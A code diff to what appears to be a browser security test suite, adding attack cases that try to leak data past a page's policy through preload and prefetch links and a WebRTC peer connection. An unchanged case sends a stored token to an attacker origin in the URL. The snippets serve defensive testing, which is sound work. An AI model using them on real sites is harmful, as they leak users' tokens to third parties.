@@ -15,6 +15,8 @@ export interface AttackTarget {
   readonly reached: 'reached';
   /** An origin of the attacker. Each request to it counts as a success. */
   readonly other: string;
+  /** A server for peer connections of the attacker. Each datagram counts as a success. */
+  readonly stun: string;
   /** A script of a deployed release, and of a release that was published and never deployed. */
   readonly deployed: string;
   readonly undeployed: string;
@@ -57,6 +59,9 @@ const SENDING = [
     'form',
     `const form = make('form', { action: t.other }); document.body.append(form); form.submit(); await never;`,
   ),
+  attack('preload', `return loaded(make('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: t.other }));`),
+  attack('module preload', `return loaded(make('link', { rel: 'modulepreload', href: t.other + '/x.js' }));`),
+  attack('prefetch', `return loaded(make('link', { rel: 'prefetch', href: t.other }));`),
   attack(
     'fetch of an empty frame',
     `const frame = make('iframe', {}); document.body.append(frame);
@@ -247,6 +252,12 @@ export const ACTIONS_OF_USER: readonly BrowserAttack[] = [
   attack(
     'open another site with the token in its address',
     `location.href = t.other + '/?' + localStorage.token; await never;`,
+  ),
+  // Chromium 156 does not know the directive `webrtc 'block'`.
+  attack(
+    'open a peer connection to another server',
+    `const peer = new RTCPeerConnection({ iceServers: [{ urls: t.stun }] });
+    peer.createDataChannel('x'); await peer.setLocalDescription(); await never;`,
   ),
   attack('log out', `localStorage.clear(); return localStorage.length === 0 && t.reached;`),
 ];
